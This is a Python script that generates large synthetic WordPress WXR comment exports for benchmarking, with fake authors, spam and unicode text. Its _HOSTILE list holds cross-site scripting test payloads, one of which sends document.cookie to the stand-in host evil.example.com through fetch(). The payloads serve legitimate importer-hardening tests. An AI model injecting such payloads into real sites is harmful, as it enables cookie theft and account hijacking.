"""Generate a large, realistic WordPress WXR export for benchmarks: ``generate_wxr(path, n, seed)``.

The file looks like a busy blog's export: posts with bodies, about 40 comments each, threads,
genuine discussion mixed with link spam, pharma and SEO spam, some hostile HTML, unicode, a few
pingbacks and trackbacks, held, spam and trashed comments. Authors are fake and their emails use
example.com/org/net. The same ``seed`` gives the same bytes; about 1 KB per comment.

Run it as a script to write a file: ``python benchmarks/wxr_gen.py OUT.xml N [--seed S]``.
"""

from __future__ import annotations

import argparse
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

COMMENTS_PER_POST = 40

_FIRST = (
    "Ann Ben Chloé Dmitri Eleni Farid Grace Hiro Ines Jonas Kai Lena Marco Nadia Olu Priya "
    "Quentin Rosa Sven Tomás Uma Viktor Wen Xenia Yusuf Zoë Αλέξης Μαρία 健太 美咲 محمد"
).split()
_LAST = (
    "Adams Berg Costa Dubois Eriksen Fischer García Hansen Ivanova Jensen Kowalski Larsen "
    "Moreau Nakamura Okafor Petrov Quinn Rossi Schmidt Tanaka Ueda Vasquez Weber Young Zhang"
).split()
_DOMAINS = ("example.com", "example.org", "example.net")
_TOPICS = (
    "sourdough starters",
    "Python packaging",
    "night photography",
    "urban cycling",
    "home composting",
    "learning Greek",
)
_HAM = (
    "Thanks for writing this up, the part about {topic} finally made it click for me.",
    "I tried this last weekend and it worked, although step three took me twice as long.",
    "<p>Great post!</p><p>One question: does this still apply to {topic} in winter?</p>",
    "I respectfully disagree. In my experience with {topic} the opposite is true, at least "
    "for beginners. Happy to share notes if anyone is interested.",
    "Bookmarked. <em>Really</em> clear explanation, and the pictures help a lot.",
    "Ευχαριστώ πολύ για το άρθρο, πολύ χρήσιμο!",
    "とても参考になりました。ありがとうございます！",
    "مقال رائع، شكراً على المشاركة",
    "Love it 😍🔥 can't wait for part two!",
    "Small typo in the second paragraph: 'there' should be 'their'. Otherwise spot on.",
    "Has anyone compared this with the approach in the previous post? <b>Curious</b>.",
    "I run a small club about {topic} and we'll discuss this on Thursday, thank you.",
)
_SPAM = (
    'Cheap <a href="http://pharma-{n}.example.com/buy">viagra online</a> no prescription, '
    "fast shipping!!!",
    "Best SEO services, rank #1 on Google in 7 days: http://seo-{n}.example.net/offer "
    "http://seo-{n}.example.net/cheap",
    'Nice post. <a href="http://casino-{n}.example.org">online casino</a> '
    '<a href="http://loans-{n}.example.org">payday loans</a> '
    '<a href="http://replica-{n}.example.org">replica watches</a>',
    "Make $5000 a week working from home!!! Visit http://money-{n}.example.com now",
    "Great article about {topic}. Also check my site http://backlinks-{n}.example.com/ "
    "for cheap backlinks",
)
_HOSTILE = (
    "nice<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(\'http://evil.example.com/\'+document.cookie)">',
    '<a href="javascript:alert(1)">click me for a prize</a>',
    '<a href="jav&#x09;ascript:alert(1)">obfuscated</a> <svg onload=alert(1)>',
)
_PING = "[&#8230;] as explained in this post about {topic} [&#8230;]"


def _comment_xml(rng: random.Random, number: int, when: datetime) -> str:
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    user = f"{first.lower()}.{last.lower()}{rng.randrange(1000)}"
    topic = rng.choice(_TOPICS)
    roll = rng.random()
    kind, approved, author_url = "", "1", ""
    if roll < 0.25:
        content = rng.choice(_SPAM).format(n=rng.randrange(500), topic=topic)
        approved = rng.choice(("spam", "spam", "0", "1"))
        author_url = f"http://promo-{rng.randrange(500)}.example.com/"
    elif roll < 0.27:
        content = rng.choice(_HOSTILE)
        approved = rng.choice(("0", "spam", "trash"))
    elif roll < 0.29:
        content = _PING.format(topic=topic)
        kind = rng.choice(("pingback", "trackback"))
        author_url = f"https://blog-{rng.randrange(300)}.example.org/{topic.replace(' ', '-')}/"
    else:
        content = rng.choice(_HAM).format(topic=topic)
        approved = "1" if rng.random() < 0.95 else rng.choice(("0", "post-trashed"))
    in_post = number % COMMENTS_PER_POST
    # a reply names an earlier comment of the same post (ids are 1-based)
    parent = number - rng.randrange(in_post) if in_post and rng.random() < 0.3 else 0
    ip = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"
    stamp = when.strftime("%Y-%m-%d %H:%M:%S")
    return f"""		<wp:comment>
			<wp:comment_id>{number + 1}</wp:comment_id>
			<wp:comment_author><![CDATA[{first} {last}]]></wp:comment_author>
			<wp:comment_author_email><![CDATA[{user}@{rng.choice(_DOMAINS)}]]></wp:comment_author_email>
			<wp:comment_author_url>{author_url}</wp:comment_author_url>
			<wp:comment_author_IP><![CDATA[{ip}]]></wp:comment_author_IP>
			<wp:comment_date><![CDATA[{stamp}]]></wp:comment_date>
			<wp:comment_date_gmt><![CDATA[{stamp}]]></wp:comment_date_gmt>
			<wp:comment_content><![CDATA[{content}]]></wp:comment_content>
			<wp:comment_approved><![CDATA[{approved}]]></wp:comment_approved>
			<wp:comment_type><![CDATA[{kind}]]></wp:comment_type>
			<wp:comment_parent>{parent}</wp:comment_parent>
			<wp:comment_user_id>0</wp:comment_user_id>
		</wp:comment>
"""


def _item_head(post_id: int, topic: str, when: datetime) -> str:
    slug = f"{topic.replace(' ', '-')}-{post_id}"
    body = f"<p>Notes on {topic}, part {post_id}.</p>" * 8
    return f"""	<item>
		<title><![CDATA[Notes on {topic}, part {post_id}]]></title>
		<link>http://blog.example.com/{slug}/</link>
		<pubDate>{when.strftime("%a, %d %b %Y %H:%M:%S +0000")}</pubDate>
		<dc:creator><![CDATA[editor]]></dc:creator>
		<guid isPermaLink="false">http://blog.example.com/?p={post_id}</guid>
		<content:encoded><![CDATA[{body}]]></content:encoded>
		<wp:post_id>{post_id}</wp:post_id>
		<wp:post_date><![CDATA[{when.strftime("%Y-%m-%d %H:%M:%S")}]]></wp:post_date>
		<wp:comment_status><![CDATA[open]]></wp:comment_status>
		<wp:post_name><![CDATA[{slug}]]></wp:post_name>
		<wp:status><![CDATA[publish]]></wp:status>
		<wp:post_type><![CDATA[post]]></wp:post_type>
"""


_HEADER = """<?xml version="1.0" encoding="UTF-8"?>
<!-- generated by benchmarks/wxr_gen.py: synthetic data, fake people -->
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
	<title>Benchmark blog</title>
	<link>http://blog.example.com</link>
	<wp:wxr_version>1.2</wp:wxr_version>
"""
_FOOTER = "</channel>\n</rss>\n"


def generate_wxr(path: str | Path, n: int, seed: int = 0) -> Path:
    """Write a WXR file with exactly ``n`` comments to ``path`` and return the path."""
    rng = random.Random(seed)
    when = datetime(2020, 1, 1, tzinfo=UTC)
    path = Path(path)
    with path.open("w", encoding="utf-8", buffering=1 << 20) as out:
        out.write(_HEADER)
        for number in range(n):
            if number % COMMENTS_PER_POST == 0:
                if number:
                    out.write("\t</item>\n")
                out.write(_item_head(number // COMMENTS_PER_POST + 1, rng.choice(_TOPICS), when))
            when += timedelta(seconds=rng.randrange(1, 600))
            out.write(_comment_xml(rng, number, when))
        if n:
            out.write("\t</item>\n")
        out.write(_FOOTER)
    return path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("n", type=int)
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args()
    path = generate_wxr(args.out, args.n, args.seed)
    print(f"{path}: {args.n} comments, {path.stat().st_size / 1e6:.1f} MB")


if __name__ == "__main__":
    main()
